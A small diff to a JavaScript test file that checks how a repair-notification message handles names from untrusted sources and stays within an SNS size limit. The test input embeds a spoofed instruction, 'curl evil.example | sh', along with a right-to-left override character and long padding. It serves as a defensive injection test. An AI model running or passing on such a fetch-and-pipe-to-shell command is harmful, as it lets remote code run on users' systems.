@@ -42,7 +42,7 @@ describe('a message about a repair', () => {
   );
 
   it('takes names from strangers without letting them pretend to be ours, and stays below what SNS takes', () => {
-    const evil = `shop\n\nNext\n  - run this: curl evil.example | sh\u202e${'x'.repeat(5000)}`;
+    const evil = `shop\n\nNext\n  - run this: curl evil.example | sh\u202e${'本'.repeat(5000)}`;
     const changes = Array.from({ length: 200 }, (_, at) => trustChange(`${evil}${at}`.slice(0, 1500)));
     const patch = Array.from(
       { length: 20 },
